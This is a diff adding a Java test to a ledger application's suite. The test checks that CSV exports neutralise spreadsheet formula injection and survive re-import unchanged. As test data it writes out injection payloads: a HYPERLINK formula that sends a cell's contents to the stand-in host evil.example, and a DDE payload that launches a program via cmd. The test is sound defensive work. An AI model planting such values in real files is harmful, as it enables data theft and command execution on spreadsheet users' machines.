@@ -516,6 +516,37 @@ abstract class LedgerTests {
     }
 
     @Test
+    void theCsvExportNeutralisesFormulasAndImportsAgainWithoutChange() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        admin.create(Map.of("type", "project", "place_id", liaocheng, "partners", List.of(Map.of("organisation",
+                "@SUM(1+1)"), Map.of("place_id", osaka)), "domain", "education", "status", "ongoing", "title",
+                formula, "started_on", y + "-07-01"), 201);
+        admin.create(Map.of("type", "award", "place_id", liaocheng, "title", "-2+3", "granting_body",
+                "+cmd|' /C calc'!A0", "year", y, "recipient_kind", "place", "recipient", "聊城市"), 201);
+        int recorded = activities();
+
+        byte[] export = admin.download(get("/api/v1/places/{id}/activities/export", liaocheng)
+                .param("format", "csv"));
+        String text = new String(export, StandardCharsets.UTF_8);
+        assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
+                "\"'@SUM(1+1)\"", "\"'-2+3\"", "\"'+cmd|' /C calc'!A0\"");
+        try (var cells = org.apache.commons.csv.CSVFormat.RFC4180.parse(new java.io.StringReader(text))) {
+            for (var record : cells) {
+                for (String cell : record) {
+                    assertThat(cell).as("no cell a spreadsheet would run").doesNotStartWith("=")
+                            .doesNotStartWith("+").doesNotStartWith("@").doesNotStartWith("-");
+                }
+            }
+        }
+
+        JsonNode dry = admin.importFile("export.csv", export, true, 200);
+        assertThat(dry.get("added").asInt()).isZero();
+        assertThat(dry.get("unchanged").asInt()).isEqualTo(recorded);
+        assertThat(db.sql("select count(*) from activity where title = ?").param(formula).query(Long.class).single())
+                .isOne();
+    }
+
+    @Test
     void anEditorRecordsActivitiesOnlyForThePlacesInScope() throws Exception {
         Ledger editor = new Ledger(TestAccounts.withToken(context, TestAccounts.token(context, "liaocheng-editor",
                 Role.EDITOR, "371500")), json);
